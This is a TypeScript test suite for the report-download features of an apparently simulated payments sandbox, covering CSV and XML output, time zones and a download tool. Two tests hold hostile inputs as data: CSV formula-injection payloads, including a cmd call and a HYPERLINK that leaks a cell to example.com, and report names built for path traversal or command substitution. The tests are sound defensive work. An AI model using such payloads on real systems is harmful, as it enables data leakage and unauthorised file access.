import { readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { validateXML } from 'xmllint-wasm';
import { limits } from '../../src/core/limits.ts';
import { columnName, namingConventions } from '../../src/domains/reporting/columns.ts';
import { definitionNames } from '../../src/domains/reporting/definitions.ts';
import { reportFields } from '../../src/domains/reporting/field-groups.ts';
import { csvLine } from '../../src/domains/reporting/sandbox/csv.ts';
import { type FileTerms, writers } from '../../src/domains/reporting/sandbox/files.ts';
import { timeZones } from '../../src/domains/reporting/time-zones.ts';
import { zonedTime } from '../../src/domains/reporting/zoned-time.ts';
import { finishedReport, requestedReport } from '../engine/reporting.ts';
import { agent, world } from '../engine/support.ts';
import { Bench, host, signed } from '../sandbox/support.ts';
import { playRowsOneIn } from '../support/drawn.ts';
import { folder } from '../support/folder.ts';
import { reportSchema } from './report-xsd.ts';

playRowsOneIn(3);

const card = { paymentInformation: { instrumentIdentifier: { id: 'FACE00000000000000000000000D0001' } } };
const amounts = (totalAmount: string, currency = 'USD') => ({
  orderInformation: { amountDetails: { totalAmount, currency } },
});
const fields = [
  'Request.RequestID',
  'Request.TransactionDate',
  'Application.Name',
  'PaymentData.Amount',
  'PaymentData.CurrencyCode',
];
const terms = (change: object = {}) => ({
  ...{ reportDefinitionName: 'PaymentBatchDetailClass', reportFields: fields, reportMimeType: 'text/csv' },
  ...{ reportName: 'January', timezone: 'Europe/London' },
  ...{ reportStartTime: '2026-01-01T00:00:00Z', reportEndTime: '2026-02-01T00:00:00Z', ...change },
});
const reports = '/reporting/v3/reports';
const finished = limits.reportPendingSeconds + limits.reportQueuedSeconds + limits.reportRunningSeconds;

/** A sandbox in which 100.00 USD were captured and 40.00 of them refunded. */
async function withSale(): Promise<Bench> {
  const bench = new Bench();
  const { body: payment } = await bench.call('POST', '/pts/v2/payments', { ...card, ...amounts('100.00') });
  const { body: capture } = await bench.call('POST', `/pts/v2/payments/${payment.id}/captures`, amounts('100.00'));
  await bench.call('POST', `/pts/v2/captures/${capture.id}/refunds`, amounts('40.00'));
  return bench;
}

const later = (bench: Bench, seconds = finished) => bench.control('POST', 'clock', { advance: `PT${seconds}S` });

async function get(bench: Bench, path: string, accept = 'text/csv, application/xml, application/json') {
  const response = await bench.sandbox.handle(
    signed(`http://${host}`, 'GET', path, undefined, {
      at: bench.wall,
      headers: (headers) => {
        headers.accept = accept;
      },
    }),
  );
  return { status: response.status, type: response.headers.get('content-type'), text: await response.text() };
}

const download = (bench: Bench, more: Record<string, string> = {}) =>
  get(
    bench,
    `/reporting/v3/report-downloads?${new URLSearchParams({ reportName: 'January', reportDate: '2026-02-01', ...more })}`,
  );

/** The records of a file, by a strict parser. */
const rowsOf = (text: string): readonly (readonly string[])[] =>
  parse(text, { relax_column_count_less: true, record_delimiter: '\r\n', relax_quotes: false });

async function made(change: object = {}, reportDate = '2026-02-01'): Promise<string> {
  const bench = await withSale();
  expect((await bench.call('POST', reports, terms(change))).status).toBe(200);
  await later(bench);
  const { status, text } = await download(bench, { reportDate });
  expect(status).toBe(200);
  return text;
}

describe('a CSV file', () => {
  it('says what it is, names its columns in the order asked for, and has a row for each record', async () => {
    const [about, names, ...rows] = rowsOf(await made());
    expect(about).toEqual([
      ...['January', '1.0', 'harbour_audio_test', '2026-01-01T00:00:00+00:00', '2026-02-01T00:00:00+00:00'],
    ]);
    expect(names).toEqual([
      ...['requestId', 'requestTransactionDate', 'applicationName', 'paymentDataAmount', 'paymentDataCurrencyCode'],
    ]);
    expect(rows.map(([, ...row]) => row)).toEqual(
      expect.arrayContaining([
        ['2026-01-15T09:00:00+00:00', 'capture', '100.00', 'USD'],
        ['2026-01-15T09:00:00+00:00', 'refund', '40.00', 'USD'],
      ]),
    );
    expect(rows).toHaveLength(2);
  });

  it('signs what was paid back, names columns with underscores, and has any other order of fields', async () => {
    const reportFields = fields.toReversed();
    const reportPreferences = { signedAmounts: true, fieldNameConvention: 'SCMP' };
    const [, names, ...rows] = rowsOf(await made({ reportFields, reportPreferences }));
    expect(names?.slice(0, 2)).toEqual(['payment_data_currency_code', 'payment_data_amount']);
    expect(rows.map((row) => row[1]).toSorted()).toEqual(['-40.00', '100.00']);
  });

  // 09:00 in GMT.
  it.each([
    ['Pacific/Auckland', '2026-02-01', '2026-01-15T22:00:00+13:00', '2026-01-15'],
    ['Pacific/Pago_Pago', '2026-01-31', '2026-01-14T22:00:00-11:00', '2026-01-14'],
  ])('D-85: has every time, and every day of a settlement, in %s', async (timezone, ends, time, day) => {
    const days = ['Settlement.SettlementDate', 'Batch.BatchDate', 'Deposit.Time', 'Funding.FundingDate'];
    const [, , ...rows] = rowsOf(await made({ timezone, reportFields: ['Request.TransactionDate', ...days] }, ends));
    expect(rows).toEqual(Array(2).fill([time, day, day, day, day]));
    const reportFilters = { 'Settlement.SettlementDate': [day] };
    expect(rowsOf(await made({ timezone, reportFilters }, ends))).toHaveLength(4);
    const events = { reportDefinitionName: 'ProcessorEventsDetailClass', reportFields: ['Event.EventDate'], timezone };
    const bench = await withSale();
    await bench.call('POST', '/rbs/v1/subscriptions', {
      subscriptionInformation: { name: 'Gold', startDate: '2026-01-15T10:00:00Z' },
      paymentInformation: { customer: { id: 'FACE00000000000000000000000C0001' } },
      planInformation: { billingPeriod: { length: '1', unit: 'M' } },
      orderInformation: { amountDetails: { billingAmount: '10.00', currency: 'USD' } },
    });
    await bench.call('POST', reports, terms(events));
    await later(bench);
    const [, , ...told] = rowsOf((await download(bench, { reportDate: ends })).text);
    expect(new Set(told.flat())).toEqual(new Set([time]));
  });

  it('keeps the rows that a filter names', async () => {
    const [, , ...rows] = rowsOf(await made({ reportFilters: { 'Application.Name': ['refund'] } }));
    expect(rows.map((row) => row[2])).toEqual(['refund']);
  });

  it.each([
    ['without values keeps every row', { 'Application.Name': [] }, 2],
    ['without values narrows no other', { 'Application.Name': ['refund'], firstName: [], lastName: [], email: [] }, 1],
    ['in an array is one', [{ 'Application.Name': ['refund'] }], 1],
    [
      'that comes twice has the values of both',
      [{ 'Application.Name': ['refund'] }, { 'Application.Name': ['capture'] }],
      2,
    ],
    ['of an empty array is none', [], 2],
  ])('a filter %s', async (_, reportFilters, count) => {
    const [, , ...rows] = rowsOf(await made({ reportFilters }));
    expect(rows).toHaveLength(count);
  });

  // What OWASP lists: signs at which a spreadsheet begins a formula, and what it skips before one.
  it.each([
    ...['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '＝1+1', '＋1', '－1', '＠x', '\u200b=1'],
    ...['=cmd|"/C calc"!A0', '=HYPERLINK("https://example.com?x="&A1)', '";=1', "'=1", '0,=1'],
  ])('never begins a value with a formula: %j', (text) => {
    const [[value, amount] = []] = rowsOf(
      csvLine([
        { text, exact: false },
        { text: '-40.00', exact: true },
      ]),
    );
    expect(/^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u.test(String(value))).toBe(false);
    expect([String(value).replace(/^'(?=[\s\S])/, ''), amount]).toEqual([text.replace(/^'/, ''), '-40.00']);
  });
});

describe('an XML file', () => {
  it.each(namingConventions)('is valid under the schema of reports, with names of %s', async (convention) => {
    const text = await made({
      reportMimeType: 'application/xml',
      reportFields: fields.toReversed(),
      reportPreferences: { fieldNameConvention: convention, signedAmounts: true },
    });
    // Whatever this narrower schema lets pass, that of all fields does, too.
    const schema = reportSchema(convention, (id) => fields.includes(id));
    const { valid, errors } = await validateXML({ xml: text, schema });
    expect([valid, errors]).toEqual([true, []]);
    expect(text).toContain(`<${columnName('PaymentData.Amount', convention)}>-40.00<`);
  });

  it('is valid whatever its texts are', async () => {
    const texts = ['<&>"\'', ']]>', '\u0000\u001f', '\ud800', '<!--', '&#0;', '\r\n\t', '日本語', '\ufffe'];
    const about: FileTerms = {
      ...{ name: texts.join(), definition: 'TransactionRequestClass', merchantId: 'm', zone: 'GMT' },
      ...{ from: 0, to: 1, fields: reportFields.map(({ id }) => id), convention: 'SOAPI', signed: false },
    };
    const rows = texts.map((text, at) => ({
      ...{ id: String(at), at, isRefund: false },
      fields: Object.fromEntries(
        reportFields.filter(({ id }) => !id.endsWith('Amount')).map(({ id }) => [id, text] as const),
      ),
    }));
    const xml = [...writers['application/xml'](about, rows)].join('');
    const { valid, errors } = await validateXML({ xml, schema: reportSchema('SOAPI') });
    expect([valid, errors]).toEqual([true, []]);
  });
});

describe('the names of columns', () => {
  it.each(namingConventions)('are each another in %s, and plain words', (convention) => {
    const names = reportFields.map(({ id }) => columnName(id, convention));
    expect(new Set(names).size).toBe(reportFields.length);
    for (const name of names) expect(name).toMatch(convention === 'SCMP' ? /^[a-z][a-z0-9_]*$/ : /^[a-z][A-Za-z0-9]*$/);
  });

  it.each([
    ['BillTo.FirstName', 'bill_to_first_name', 'billToFirstName'],
    ['Request.RequestID', 'request_id', 'requestId'],
    ['Risk.IPCity', 'risk_ip_city', 'riskIpCity'],
    ['VEReq.AcquirerBin', 've_req_acquirer_bin', 'veReqAcquirerBin'],
  ])('%s is %s or %s', (field, ...names) => {
    expect(namingConventions.map((convention) => columnName(field, convention))).toEqual(names);
  });
});

describe('a moment in a time zone', () => {
  it.each(timeZones)('is read back as itself in %s', (zone) => {
    for (let month = 0; month < 24; month += 1) {
      const at = Date.UTC(2026, month, 29, 0, 59, 59);
      expect(Date.parse(zonedTime(at, zone))).toBe(at);
    }
  });

  it.each([
    ['Europe/London', '2026-03-29T00:59:59Z', '2026-03-29T00:59:59+00:00'],
    ['Europe/London', '2026-03-29T01:00:00Z', '2026-03-29T02:00:00+01:00'],
    ['America/St_Johns', '2026-07-01T00:00:00Z', '2026-06-30T21:30:00-02:30'],
    ['Asia/Katmandu', '2026-01-01T00:00:00Z', '2026-01-01T05:45:00+05:45'],
  ])('%s shows %s as %s', (zone, at, shown) => {
    expect(zonedTime(Date.parse(at), zone)).toBe(shown);
  });
});

describe('RP-08 a download', () => {
  it('exists for a finished report with data alone', async () => {
    const bench = await withSale();
    await bench.call('POST', reports, terms());
    for (const seconds of [0, limits.reportPendingSeconds, limits.reportQueuedSeconds]) {
      await later(bench, seconds);
      expect((await download(bench)).status).toBe(404);
    }
    await later(bench, limits.reportRunningSeconds);
    expect(await download(bench)).toMatchObject({ status: 200, type: 'text/csv' });
    expect((await download(bench, { reportDate: '2026-01-31' })).status).toBe(404);
    expect((await download(bench, { reportName: 'February' })).status).toBe(404);
  });

  it('does not exist for a report without data, or one that could not be made', async () => {
    const bench = await withSale();
    await bench.call('POST', reports, terms({ reportEndTime: '2026-01-15T09:00:00Z' }));
    await bench.call('POST', reports, terms({ reportName: 'Broken' }));
    expect((await bench.control('POST', 'reports/fail', { name: 'Broken' })).body).toEqual({ state: 'ERROR' });
    await later(bench);
    expect((await download(bench, { reportDate: '2026-01-15' })).status).toBe(404);
    expect((await download(bench, { reportName: 'Broken' })).status).toBe(404);
    expect((await bench.control('POST', 'reports/fail', { name: 'Broken' })).status).toBe(400);
    expect((await bench.control('POST', 'reports/fail', { name: 'None' })).status).toBe(404);
  });

  it('begins at the start of a range, and ends before its end', async () => {
    const bench = await withSale();
    const at = '2026-01-15T09:00:00Z';
    await bench.call('POST', reports, terms({ reportName: 'From', reportStartTime: at }));
    await bench.call('POST', reports, terms({ reportName: 'Until', reportEndTime: at }));
    await later(bench);
    expect((await download(bench, { reportName: 'From' })).status).toBe(200);
    expect((await download(bench, { reportName: 'Until', reportDate: '2026-01-15' })).status).toBe(404);
  });

  it('is found by the day on which its range ends in its time zone', async () => {
    const bench = await withSale();
    await bench.call('POST', reports, terms({ timezone: 'America/Los_Angeles' }));
    await later(bench);
    expect((await download(bench)).status).toBe(404);
    expect((await download(bench, { reportDate: '2026-01-31' })).status).toBe(200);
    expect((await download(bench, { reportDate: '2026-01-31', reportTime: '16:00:00-08:00' })).status).toBe(200);
    expect((await download(bench, { reportDate: '2026-01-31', reportTime: '17:00:00-08:00' })).status).toBe(404);
  });

  it.each([
    ['16:00:00Z', 200],
    ['15:59:59Z', 404],
    ['16:00:01Z', 404],
  ])('is found by the second in which its range ends: %s', async (reportTime, status) => {
    const bench = await withSale();
    await bench.call('POST', reports, terms({ reportEndTime: '2026-01-31T16:00:00.750Z' }));
    await later(bench);
    expect((await download(bench, { reportDate: '2026-01-31', reportTime })).status).toBe(status);
  });

  it('has a link once there is one, which leads to this very file', async () => {
    const bench = await withSale();
    const ends = { reportEndTime: '2026-01-31T16:00:00.750Z' };
    await bench.call('POST', reports, terms({ reportName: 'A & B + C', ...ends }));
    await bench.call(
      'POST',
      reports,
      terms({ reportName: 'Nothing', reportDefinitionName: 'InvoiceSummaryClass', ...ends }),
    );
    const query = 'startTime=2026-01-01T00:00:00Z&endTime=2026-02-01T00:00:00Z&timeQueryType=reportTimeFrame';
    const links = async () =>
      (await bench.call('GET', `${reports}?${query}`)).body.reportSearchResults.map(
        ({ _link }: { _link?: { reportDownload: { href: string; method: string } } }) => _link?.reportDownload,
      );
    expect(await links()).toEqual([undefined, undefined]);
    await later(bench);
    const [link, none] = await links();
    expect([link.method, none]).toEqual(['GET', undefined]);
    expect(await get(bench, link.href)).toMatchObject({ status: 200, type: 'text/csv' });
  });

  it('never changes, whatever becomes of what it is about', async () => {
    const bench = new Bench();
    const { body: payment } = await bench.call('POST', '/pts/v2/payments', { ...card, ...amounts('100.00') });
    const { body: capture } = await bench.call('POST', `/pts/v2/payments/${payment.id}/captures`, amounts('100.00'));
    await bench.call('POST', reports, terms());
    await later(bench);
    const { text } = await download(bench);
    await bench.call('POST', `/pts/v2/captures/${capture.id}/voids`, {});
    expect((await download(bench)).text).toBe(text);
  });
});

describe('D-25 one report', () => {
  const found = async (bench: Bench): Promise<string> => {
    const query = 'startTime=2026-01-01T00:00:00Z&endTime=2026-02-01T00:00:00Z&timeQueryType=reportTimeFrame';
    return (await bench.call('GET', `${reports}?${query}`)).body.reportSearchResults[0].reportId;
  };

  it('is metadata in JSON, the file in its own format, and in no other', async () => {
    const bench = await withSale();
    await bench.call('POST', reports, terms());
    await later(bench);
    const at = `${reports}/${await found(bench)}`;
    expect(await get(bench, at, 'application/json')).toMatchObject({ status: 200, type: 'application/json' });
    expect(await get(bench, at, '*/*')).toMatchObject({ status: 200, type: 'application/json' });
    expect(await get(bench, at, 'text/csv')).toEqual(await download(bench));
    expect((await get(bench, at, 'application/xml')).status).toBe(404);
    expect((await get(bench, at, 'application/xml, text/csv')).status).toBe(400);
  });
});

describe('a report of every definition', () => {
  it.each(definitionNames)('%s is made of what the sandbox knows', async (reportDefinitionName) => {
    const bench = await withSale();
    await bench.call('POST', reports, terms({ reportDefinitionName, reportFields: ['Request.RequestID'] }));
    await later(bench);
    const { status, text } = await download(bench);
    const settled = ['PaymentBatch', 'ProcessorSettlement', 'Funding', 'Deposit'].map((name) => `${name}DetailClass`);
    const all = ['TransactionRequestClass', 'GatewayTransactionRequestClass'];
    const sales = ['FeeDetailClass'];
    const rows = status === 200 ? rowsOf(text).length - 2 : 0;
    const wanted = [sales, settled, all].findIndex((names) => names.includes(reportDefinitionName)) + 1;
    expect([reportDefinitionName, rows]).toEqual([reportDefinitionName, wanted]);
  });
});

describe('the tool', () => {
  it('shows the size, the rows and the first lines of a finished report, and links to the rest', async () => {
    const it = await world();
    const said = await it.call('download_report', { report: await finishedReport(it) });
    expect(said).toMatchObject({ outcome: 'done', file: { type: 'text/csv', rows: 2, pages: 1 } });
    const about = 'January,1.0,harbour_audio_test,2026-01-01T00:00:00+00:00,2026-02-01T00:00:00+00:00';
    expect(said.data.lines.slice(0, 2)).toEqual([about, 'requestId,paymentDataAmount']);
    expect(said.data.lines).toHaveLength(4);
    const page = await it.running.engine.of('default').filePage?.(agent, said.file?.handle ?? '', 1);
    expect(page?.text.split('\r\n')[1]).toBe('requestId,paymentDataAmount');
  });

  it('sums the amounts by currency, and charts them by day for who downloaded them', async () => {
    const it = await world();
    const report = await finishedReport(it, {
      fields: ['Request.TransactionDate', 'PaymentData.Amount', 'PaymentData.CurrencyCode'],
      definition: 'PaymentBatchDetailClass',
    });
    for (const said of [await it.call('download_report', { report }), await it.call('download_report', { report })]) {
      expect(said.data.sums).toEqual([{ currency: 'USD', amount: '100.00', count: 1 }]);
      expect(said.file?.chart).toBe(true);
      const handle = said.file?.handle ?? '';
      expect(await it.running.engine.fileChart(agent, handle)).toContain('<title>2026-01-15: 100.00</title>');
      expect(await it.running.engine.fileChart({ ...agent, principal: 'somebody else' }, handle)).toBeUndefined();
    }
  });

  // What a name of a report could do where it became a path, an option, a header or a query.
  it.each([
    ...[
      '../../etc/passwd',
      '..',
      '.',
      '/etc/passwd',
      'C:\\windows\\win.ini',
      '\\\\server\\share',
      '~root',
      '-rf',
      'a/b',
    ],
    ...['CON', 'a%2fb', '%2e%2e%2f', 'a?b=c&d=e', 'a#b', 'a;b', '$(id)', '`id`', '$HOME', 'a b', "a'b", 'a"b', '<b>'],
    ...['名前', 'e\u0301', 'x'.repeat(limits.reportNameCharacters), '__proto__', 'constructor', 'file_aaaaaaaaaaaaa'],
  ])('never uses a name as a path: %j', async (name) => {
    const data = folder();
    const it = await world({ configure: { data } });
    const report = await finishedReport(it, { name });
    const before = readdirSync(data, { recursive: true }).map(String);
    const said = await it.call('download_report', { report });
    expect(said).toMatchObject({ outcome: 'done', file: { handle: expect.stringMatching(/^file_[a-z]+$/) } });
    const after = readdirSync(data, { recursive: true }).map(String);
    const added = after.filter((entry) => !before.includes(entry));
    expect(added.filter((entry) => statSync(join(data, entry)).isFile())).toEqual([
      expect.stringMatching(new RegExp(`/${said.file?.handle}$`)),
    ]);
    const page = await it.running.engine.of('default').filePage(agent, said.file?.handle ?? '', 1);
    expect(
      rowsOf(page?.text ?? '')[0]?.[0]
        ?.replace(/^'(?=[-=+@])/, '')
        .normalize(),
    ).toBe(name.normalize());
  });

  it.each([
    ['PENDING', 0],
    ['QUEUED', limits.reportPendingSeconds],
    ['RUNNING', limits.reportPendingSeconds + limits.reportQueuedSeconds],
    ['NO_DATA', finished],
  ])('RP-08 says why there is no file of a report that is %s', async (state, seconds) => {
    const it = await world();
    const report = await requestedReport(it);
    await it.advance(seconds);
    const sent = it.sent.length;
    const said = await it.call('download_report', { report });
    expect(said).toMatchObject({ outcome: 'refused', error: { rule: 'RP-08', field: 'report' }, next: ['get_report'] });
    expect((await it.thing(report)).state).toBe(state);
    expect(it.sent.slice(sent).filter(({ path }) => path.includes('report-downloads'))).toEqual([]);
  });
});
